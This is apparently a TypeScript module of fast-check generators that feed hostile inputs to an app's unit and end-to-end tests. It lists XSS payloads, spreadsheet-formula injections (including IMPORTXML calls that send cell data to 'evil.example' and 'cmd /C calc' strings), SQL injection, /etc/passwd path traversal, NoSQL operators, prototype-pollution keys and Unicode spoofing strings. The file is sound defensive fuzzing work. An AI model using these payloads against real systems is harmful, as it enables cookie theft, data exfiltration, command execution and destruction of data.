import fc from 'fast-check';

/**
 * Hostile values for property-based tests (fast-check), shared by the unit tests (schemas,
 * verbs) and the end-to-end tests (API fuzzing, stored XSS). Every arbitrary here yields
 * JSON-serialisable values unless its name says otherwise, so the same values can be posted.
 */

/** Markup and script in the forms that have slipped through escaping somewhere before. */
export const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '"><svg onload=alert(1)>',
  "'><script>alert(document.cookie)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<style>*{display:none}</style>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--',
  ']]><script>alert(1)</script>',
] as const;

/** What a spreadsheet would evaluate if a cell started with it (OWASP "CSV injection"). */
export const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r'] as const;
const FORMULA_BODIES = [
  '1+1',
  'HYPERLINK("http://evil.example","clic")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  "2+5+cmd|' /C calc'!A0",
  'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
];

/** Dates as people, spreadsheets and attackers write them: impossible, far out of range, other calendars' digits. */
export const HOSTILE_DATES = [
  '0000-01-01',
  '0001-01-01',
  '0099-12-31',
  '1899-12-31',
  '9999-12-31',
  '2026-02-30',
  '2023-02-29',
  '2026-13-01',
  '2026-00-10',
  '2026-04-31',
  '+275760-09-13',
  '-271821-04-20',
  '+010000-01-01',
  '2026-1-1',
  '26-03-10',
  '2026/03/10',
  '10/03/2026',
  '31/02/2026',
  '2026-03-10T00:00:00Z',
  '2026-03-10\n',
  ' 2026-03-10',
  '２０２６-０３-１０',
  '٢٠٢٦-٠٣-١٠',
  '2100-12-31',
  '2101-01-01',
] as const;

/** Zero-width characters and bidirectional overrides (refused in every text), and look-alikes (legal): text that misleads a reader. */
export const UNICODE_TRICKS = [
  'adm\u200Bin',
  '\u202Etxt.exe',
  '\u2066abc\u2069',
  '\u200E\u200F',
  '\uFEFFbom',
  'раураl', // Cyrillic look-alike of "paypal"
  'ＰＶ－２０２６',
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
  'Z̷̛̭̤̈́a̸̰̍l̵̨̈g̶̞̈́o̵̧̍',
  '\uD800',
  '\uDFFF',
  'a\uD83Db',
  '\u{1F600}\u{1F469}\u200D\u{1F467}',
  '\u2028\u2029',
  '\u00A0\u3000',
] as const;

/** C0 and C1 controls (tab, LF and CR included: some fields allow them, the others must refuse them). */
export const controlCharacter = fc
  .oneof(fc.integer({ min: 0, max: 0x1f }), fc.integer({ min: 0x7f, max: 0x9f }))
  .map((c) => String.fromCharCode(c));
export const withControlCharacters = fc
  .tuple(
    fc.string({ maxLength: 10 }),
    fc.array(controlCharacter, { minLength: 1, maxLength: 4 }),
    fc.string({ maxLength: 10 }),
  )
  .map(([a, cs, b]) => a + cs.join('') + b);

export const htmlPayload = fc.constantFrom(...HTML_PAYLOADS);
export const formulaString = fc
  .tuple(fc.constantFrom(...FORMULA_PREFIXES), fc.constantFrom(...FORMULA_BODIES))
  .map(([p, b]) => p + b);
export const hostileDate = fc.constantFrom(...HOSTILE_DATES);
export const unicodeTrick = fc.constantFrom(...UNICODE_TRICKS);
export const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => `x${String.fromCharCode(c)}y`);

/** Strings from 10,000 to `max` characters (100,000 by default), made of a repeated random unit. */
export function hugeString(max = 100_000) {
  return fc
    .tuple(fc.string({ minLength: 1, maxLength: 6, unit: 'grapheme-composite' }), fc.integer({ min: 10_000, max }))
    .map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n));
}

/** Any of the hostile strings, plus ordinary random ones (any code point). */
export function hostileString({ huge = true }: { huge?: boolean } = {}) {
  return fc.oneof(
    htmlPayload,
    formulaString,
    withControlCharacters,
    hostileDate,
    unicodeTrick,
    loneSurrogate,
    fc.constantFrom(
      '',
      ' ',
      '   ',
      '\n',
      'null',
      'undefined',
      'NaN',
      'true',
      '0',
      '-1',
      '1e309',
      '__proto__',
      'constructor',
      'yes',
      'no',
      'unknown',
    ),
    fc.string({ unit: 'binary', maxLength: 40 }),
    ...(huge ? [hugeString()] : []),
  );
}

/** Numbers that break naive code: negative zero, the edges of doubles and of safe integers, fractions. */
export const HOSTILE_NUMBERS = [
  -0,
  -1,
  0.5,
  -0.5,
  1e-320,
  Number.EPSILON,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 63,
  1e21,
  1e308,
  -1e308,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
] as const;
/** Hostile numbers that survive JSON (NaN and the infinities become null there). */
export const hostileNumber = fc.oneof(
  fc.constantFrom(...HOSTILE_NUMBERS),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);
/** Also NaN and the infinities: only for values that are not sent as JSON. */
export const hostileNumberNotJson = fc.oneof(hostileNumber, fc.constantFrom(Number.NaN, Infinity, -Infinity));

/** An array or object nested `depth` levels deep (built without recursion). */
export function nested(depth: number, kind: 'array' | 'object', leaf: unknown = 'x'): unknown {
  let value: unknown = leaf;
  for (let i = 0; i < depth; i++) value = kind === 'array' ? [value] : { a: value };
  return value;
}
export const deepValue = fc
  .tuple(fc.integer({ min: 1000, max: 3000 }), fc.constantFrom('array' as const, 'object' as const), htmlPayload)
  .map(([d, k, leaf]) => nested(d, k, leaf));

/** Values of the wrong type where a string (or a number, or an enum) is expected. */
export const wrongType = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.constant({}),
  fc.constant([]),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
  fc.constant({ toString: 'x', valueOf: 1 }),
  fc.constant(['<script>alert(1)</script>']),
  fc.constant({ $gt: '' }),
  hostileNumber,
);

/** Any hostile value that can be sent as JSON. */
export function hostileValue({ huge = true, deep = true }: { huge?: boolean; deep?: boolean } = {}) {
  return fc.oneof(
    { weight: 4, arbitrary: hostileString({ huge }) },
    { weight: 2, arbitrary: wrongType },
    { weight: 1, arbitrary: hostileNumber },
    ...(deep ? [{ weight: 1, arbitrary: deepValue }] : []),
  );
}

/** Keys that are not what they look like: prototype names, near misses of real codes, look-alikes. */
export const HOSTILE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '',
  ' ',
  'ctx.reference ',
  'CTX.REFERENCE',
  'ctx.reference\u200B',
  'сtx.reference', // Cyrillic с
  'ctx.reference:note',
  'ctx.service:note',
  'act.recruited:note:note',
  ':note',
  'ctx',
  'ctx.',
  '$where',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  "'; DROP TABLE checklists; --",
] as const;
export const hostileKey = fc.oneof(
  fc.constantFrom(...HOSTILE_KEYS),
  fc.string({ maxLength: 20 }),
  fc.string({ unit: 'binary', maxLength: 10 }),
);

/**
 * An object with some of `fields` (and a few hostile keys) holding hostile or plausible values.
 * Built with JSON.parse so that a `__proto__` key is an own property, as in a parsed request body.
 */
export function hostileObject(
  fields: readonly string[],
  plausible: fc.Arbitrary<unknown> = fc.constant('x'),
  options: { huge?: boolean; deep?: boolean } = {},
) {
  const value = fc.oneof({ weight: 3, arbitrary: hostileValue(options) }, { weight: 2, arbitrary: plausible });
  const fieldEntries =
    fields.length > 0
      ? fc.array(fc.tuple(fc.constantFrom(...fields), value), { maxLength: fields.length + 2 })
      : fc.constant([] as [string, unknown][]);
  return fc
    .tuple(fieldEntries, fc.array(fc.tuple(hostileKey, value), { maxLength: 2 }))
    .map(([known, extra]) => ownObject([...known, ...extra]));
}

/** An object whose keys are all own properties — `__proto__` included, as JSON.parse makes it. */
export function ownObject(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of entries)
    Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
  return out;
}

/**
 * C0/C1 controls other than tab, LF and CR, lone surrogates, and the invisible characters that
 * change what a reader sees (bidi controls, zero-width characters, line/paragraph separators):
 * what no stored free text may contain.
 */
export const FORBIDDEN_CONTROL =
  /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200B-\u200F\u2028-\u202E\u2060-\u2064\u2066-\u206F\uFEFF]|\p{Surrogate}/u;
